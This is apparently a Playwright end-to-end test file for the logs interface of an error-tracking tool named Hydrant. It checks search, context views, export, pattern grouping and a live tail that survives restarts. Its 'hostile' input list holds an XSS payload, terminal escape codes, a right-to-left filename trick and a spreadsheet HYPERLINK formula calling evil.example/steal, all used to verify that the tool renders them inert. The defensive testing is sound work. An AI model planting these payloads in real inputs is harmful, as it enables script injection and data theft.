/** Logs in a real browser: hostile lines, filters by click, context, links, export, and the live tail across a restart. */

import { type ChildProcess, spawn } from 'node:child_process'
import { join } from 'node:path'
import type { Browser, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { borrowHydrant } from '../borrow-hydrant.ts'
import { childIsBack, killChild, livesOf } from '../faults/children.ts'
import { longTest } from '../long.ts'
import { openBrowser } from '../open-browser.ts'
import { type Hydrant, root, until } from '../start-hydrant.ts'
import { openAcme } from './ada.ts'
import { hydrated } from './hydrated.ts'
import { postEnvelope } from './post-envelope.ts'
import { type Line, sendLines } from './send-lines.ts'
import { hexId, recipientOf, sendSpans } from './trace-scenes.ts'

let hydrant: Hydrant
let browser: Browser
let page: Page
let dsn = ''
const faults: string[] = []
const elsewhere: string[] = []
const traceId = 'a'.repeat(32)
const beganAt = Date.now() - 60_000

const hostile = [
  '<img src=x onerror=alert(1)> <script>alert(2)</script>',
  'escape \u001b[2J\u001b[31mred \u0007bell',
  'reversed \u202egnp.exe',
  '=HYPERLINK("http://evil.example/steal")',
  `long ${'x'.repeat(1_000_000)}`,
  '',
]

beforeAll(async () => {
  hydrant = await borrowHydrant()
  browser = await openBrowser()
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } })
  page = await context.newPage()
  page.on('pageerror', error => void faults.push(error.message))
  page.on('dialog', dialog => {
    faults.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', request => void (request.url().startsWith(hydrant.url) || elsewhere.push(request.url())))
  ;({ dsn } = await openAcme(hydrant, page))
  await send(
    hostile.map((body, index) => ({ body, at: beganAt - index, level: 'warn', attributes: { kind: 'hostile' } })),
  )
  await send(
    Array.from({ length: 300 }, (_, index) => ({
      body: `cart ${index} locked`,
      at: beganAt - 100_000 - index * 10,
      attributes: { plan: index % 3 === 0 ? 'gold' : 'free', 'server.address': 'web-1' },
    })),
  )
  const span = { id: 1, name: 'GET /orders', op: 'http.server', startMs: 0, durationMs: 400, isSegment: true }
  await sendSpans(recipientOf(dsn), { traceId, beganAt, spans: [span] })
  await send([{ body: 'stock refused the order', level: 'error', at: beganAt + 100, traceId, spanId: hexId(1) }])
  await postEnvelope(dsn, {
    timestamp: (beganAt + 120) / 1_000,
    exception: { values: [{ type: 'OrderError', value: 'no stock' }] },
    contexts: { trace: { trace_id: traceId, span_id: hexId(1) } },
  })
  await hydrant.drained()
})

afterAll(async () => {
  await browser?.close()
  await hydrant?.stop()
})

const send = (lines: Line[]): Promise<void> => sendLines(dsn, lines)

const open = async (path: string): Promise<void> => {
  await page.goto(hydrant.url + path)
  await hydrated(page)
}
const list = () => page.getByRole('list', { name: 'Log lines' })
const rows = () => list().getByRole('button', { expanded: false })
const q = (search: string) => `/acme/logs?q=${encodeURIComponent(search)}`

longTest(
  'hostile lines are text: nothing runs, nothing is loaded from elsewhere, and hidden characters show',
  async () => {
    await open(q('kind:hostile'))
    await expect.poll(() => rows().count()).toBe(hostile.length)
    const text = (await list().textContent()) ?? ''
    expect(text).toContain('<img src=x onerror=alert(1)>')
    expect(text).toContain('escape ⟨001B⟩[2J⟨001B⟩[31mred ⟨0007⟩bell')
    expect(text).toContain('reversed ⟨202E⟩gnp.exe')
    expect(text.length).toBeLessThan(10_000)
    for (const name of [/onerror/, /long x/]) {
      await list().getByRole('button', { name }).click()
      await page.getByRole('heading', { name: 'In context' }).last().waitFor()
    }
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1440)
    expect([faults, elsewhere]).toEqual([[], []])
  },
)

test('an export has what the search finds, and no cell that a spreadsheet runs', async () => {
  const read = async (format: string) => {
    const response = await page.request.get(
      `${hydrant.url}${q('kind:hostile')}`.replace('/logs?', `/logs/export?format=${format}&`),
    )
    expect(response.headers()['content-disposition']).toContain(`.${format}"`)
    return response.text()
  }
  const csv = await read('csv')
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/steal"")"`)
  const lines = (await read('ndjson'))
    .trim()
    .split('\n')
    .map(line => JSON.parse(line))
  expect(lines).toHaveLength(hostile.length)
  expect(lines.map(({ message }) => message)).toContain(hostile[0])
})

test('more lines come as one scrolls, and only those near the screen are drawn', async () => {
  await open(q('locked'))
  await expect
    .poll(async () => {
      await page.mouse.wheel(0, 4_000)
      return page.getByText('300 lines, newest first').count()
    })
    .toBe(1)
  expect(await list().getByRole('listitem').count()).toBeLessThan(150)
  await rows().last().focus()
  await page.keyboard.press('ArrowUp')
  await page.keyboard.press('Enter')
  await page.getByRole('region', { name: 'Log line' }).waitFor()
})

test('a click on an attribute narrows the list, a facet widens it, and the address holds both', async () => {
  if (page.url() !== hydrant.url + q('locked')) {
    await open(q('locked'))
    await rows().first().click()
  }
  await page.getByRole('link', { name: 'Only lines with this plan' }).click()
  await page.waitForURL(/plan/)
  const first = new URL(page.url()).searchParams.get('q')
  expect(first).toMatch(/^locked plan:(?:gold|free)$/)
  await page.getByRole('complementary', { name: 'Filter by' }).getByRole('link', { name: /^info/ }).click()
  await page.waitForURL(/level/)
  expect(new URL(page.url()).searchParams.get('q')).toBe(`${first} level:info`)
  await expect.poll(() => rows().count()).toBeGreaterThan(10)
})

test('without JavaScript the list has all lines of a page and a link to the next', async () => {
  const read = async (path: string) => (await page.request.get(hydrant.url + path)).text()
  const first = await read(q('locked'))
  const bodies = (html: string) => new Set(html.replaceAll(/<script.*?<\/script>/gs, '').match(/cart \d+ locked/g))
  expect(bodies(first)).toEqual(new Set(Array.from({ length: 50 }, (_, index) => `cart ${index} locked`)))
  const next = /href="([^"]*)"[^>]*>Older lines/.exec(first)?.[1]?.replaceAll('&amp;', '&') ?? ''
  expect(bodies(await read(next))).toContain('cart 50 locked')
})

longTest('a line in context has the lines of its host around it, whatever the search', async () => {
  await open(q('"cart 150 locked"'))
  await rows().first().click()
  await page.getByRole('link', { name: 'View in context' }).click()
  await page.waitForURL(/\/acme\/logs\/\d+-/)
  const around = page.getByRole('list', { name: 'Lines around this line' })
  await around.getByText('cart 149 locked').waitFor()
  expect(await around.getByRole('listitem').count()).toBe(101)
  expect(await around.locator('[aria-current]').textContent()).toContain('cart 150 locked')
})

longTest('a line leads to its trace and its issue, and both lead back', async () => {
  await open(q('"stock refused"'))
  await page.getByRole('link', { name: 'Trace aaaaaaaa' }).click()
  await page.getByRole('treegrid').waitFor()
  expect(await page.locator('.logmark.bad').count()).toBe(1)
  await page.getByRole('link', { name: 'The log line of this trace' }).click()
  await rows().first().click()
  await page.getByRole('region', { name: 'Log line' }).getByRole('link', { name: 'WEB-1' }).click()
  const lines = page.getByRole('list', { name: 'Log lines, oldest first' })
  const line = lines.getByRole('link', { name: 'stock refused the order' })
  await page.setViewportSize({ width: 390, height: 844 })
  expect((await line.boundingBox())?.width).toBeGreaterThan(100)
  await page.setViewportSize({ width: 1440, height: 900 })
  await line.click()
  await page.waitForURL(/\/acme\/logs\/\d+-[0-9a-f]{32}/)
})

longTest('patterns fold lines that only differ in values, and one can be hidden', async () => {
  await open('/acme/logs/patterns')
  const carts = page.getByRole('row', { name: /cart <\*> locked/ })
  expect(await carts.getByRole('cell').nth(3).textContent()).toBe('300')
  await carts.getByRole('link', { name: /^Hide/ }).click()
  await page.waitForURL(/patterns\?q=/)
  await expect.poll(() => carts.count()).toBe(0)
})

longTest('a pattern becomes an issue, once, and a rule that watches its lines', async () => {
  await open('/acme/logs/patterns')
  const carts = page.getByRole('row', { name: /cart <\*> locked/ })
  await carts.getByLabel(/^More about/).click()
  await carts.getByRole('button', { name: 'Create issue' }).click()
  await page.waitForURL(/\/acme\/issues\/\d+$/)
  await page.getByRole('heading', { name: 'cart <*> locked' }).waitFor()
  await page.getByRole('link', { name: 'All lines of the pattern' }).click()
  await page.waitForURL(/logs\?q=pattern/)
  await expect.poll(() => rows().count()).toBeGreaterThan(10)
  await open('/acme/logs/patterns')
  await carts.getByLabel(/^More about/).click()
  expect(await carts.getByRole('button', { name: 'Create issue' }).count()).toBe(0)
  expect(await carts.getByRole('link', { name: 'WEB-2' }).count()).toBe(2)
  await carts.getByRole('link', { name: 'Create alert' }).click()
  await page.waitForURL(/alerts\/rules\/new/)
  await hydrated(page)
  expect(await page.getByRole('textbox', { name: 'Name', exact: true }).inputValue()).toBe('cart <*> locked')
  expect(await page.getByRole('combobox', { name: 'Number' }).inputValue()).toBe('logs')
  expect(await page.getByRole('textbox', { name: 'Rows', exact: true }).inputValue()).toMatch(/^pattern:[0-9a-f]{16}$/)
})

test('the live tail shows each line once, across a restart of Hydrant and of its pages, in the browser and in a terminal', async () => {
  await open('/acme/logs?live=1&q=live')
  await page.getByText('Live', { exact: true }).waitFor()
  const terminal = startTail('--org', 'acme', '--json', 'live')
  onTestFinished(terminal.stop)
  await until(async () => {
    await send([{ body: 'live probe' }])
    return terminal.output().includes('live probe')
  })
  await send([{ body: 'live 1' }])
  await page.getByText('live 1', { exact: true }).waitFor()
  await send([{ body: 'live 2' }])
  // Acknowledged, and perhaps not digested.
  await hydrant.kill('SIGKILL')
  await hydrant.start()
  await send([{ body: 'live 3' }])
  await page.getByText('live 3', { exact: true }).waitFor()
  await send([{ body: 'live 4' }, { body: 'dead 4' }])
  await page.getByText('live 4', { exact: true }).waitFor()
  // The pages alone die too, and who asks for the stream in the meantime is told so.
  await page.route('**/logs/tail?*', route => route.fulfill({ status: 502 }), { times: 1 })
  const lives = livesOf(hydrant, 'web').length
  await killChild(hydrant, 'web')
  await send([{ body: 'live 5' }])
  await childIsBack(hydrant, 'web', lives)
  await page.getByText('live 5', { exact: true }).waitFor()
  for (const name of ['live 1', 'live 2', 'live 3', 'live 4', 'live 5']) {
    expect(await page.getByText(name, { exact: true }).count(), name).toBe(1)
    await until(async () => terminal.output().includes(name))
    expect(terminal.output().split(`"${name}"`), name).toHaveLength(2)
  }
  expect(await page.getByText('dead 4').count()).toBe(0)
})

longTest('tabs with different searches share one stream, and the other goes on when its tab is closed', async () => {
  const context = await browser.newContext({ storageState: await page.context().storageState() })
  const streams = new Map<Request, 'first' | 'second'>()
  context.on('request', request => {
    if (request.url().includes('/logs/tail'))
      streams.set(request, request.frame().page() === first ? 'first' : 'second')
  })
  for (const event of ['requestfailed', 'requestfinished'] as const)
    context.on(event as 'requestfailed', request => void streams.delete(request))
  const openLive = async (search: string) => {
    const tab = await context.newPage()
    await tab.goto(`${hydrant.url}${q(search)}&live=1`)
    return tab
  }
  const live = (tab: Page) => tab.getByText('Live', { exact: true }).waitFor()
  const seen = async (tab: Page, name: string) => {
    await tab.getByText(name, { exact: true }).waitFor()
    expect(await tab.getByText(name, { exact: true }).count(), name).toBe(1)
  }
  const first = await openLive('shared')
  await live(first)
  const second = await openLive('shared level:error')
  await live(second)
  await live(first)
  await send([{ body: 'shared 1' }, { body: 'shared bad 1', level: 'error' }])
  for (const name of ['shared 1', 'shared bad 1']) await seen(first, name)
  await seen(second, 'shared bad 1')
  expect([...streams.values()]).toEqual(['first'])
  await Promise.all([send([{ body: 'shared bad 2', level: 'error' }]), first.close()])
  await send([{ body: 'shared 3' }, { body: 'shared bad 3', level: 'error' }])
  for (const name of ['shared bad 1', 'shared bad 2', 'shared bad 3']) await seen(second, name)
  expect(await second.getByText(/^shared \d$/).count()).toBe(0)
  expect([...streams.values()].filter(tab => tab === 'second')).toHaveLength(1)
  await context.close()
})

longTest('whoever reads is not disturbed: lines wait while text is selected, and below the top', async () => {
  await open('/acme/logs?live=1&q=calm')
  await page.getByText('Live', { exact: true }).waitFor()
  await send([{ body: 'calm 1' }])
  await page.getByText('calm 1', { exact: true }).waitFor()
  await page.getByText('calm 1', { exact: true }).selectText()
  await send([{ body: 'calm 2' }])
  await page.getByRole('button', { name: '1 new line' }).click()
  await page.getByText('calm 2', { exact: true }).waitFor()
  await page.evaluate(() => window.getSelection()?.removeAllRanges())
  await send(Array.from({ length: 60 }, (_, index) => ({ body: `calm as ${index}` })))
  await page.getByText('calm as 59', { exact: true }).waitFor()
  await until(async () => {
    await page.mouse.wheel(0, 500)
    return page.evaluate(() => window.scrollY > 100)
  })
  await send([{ body: 'calm 3' }])
  await page.getByRole('button', { name: '1 new line' }).click()
  await page.getByText('calm 3', { exact: true }).waitFor()
  expect(faults).toEqual([])
})

function startTail(...args: string[]) {
  const flags = ['--disable-warning=ExperimentalWarning', join(root, 'src/cli/hydrant.ts'), 'tail', ...args]
  const child: ChildProcess = spawn(process.execPath, flags, {
    cwd: root,
    env: hydrant.env,
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let words = ''
  for (const stream of [child.stdout, child.stderr]) stream?.on('data', chunk => (words += chunk))
  return {
    output: () => words,
    stop: () =>
      new Promise<void>(resolve => {
        child.once('exit', () => resolve())
        child.kill('SIGINT')
      }),
  }
}
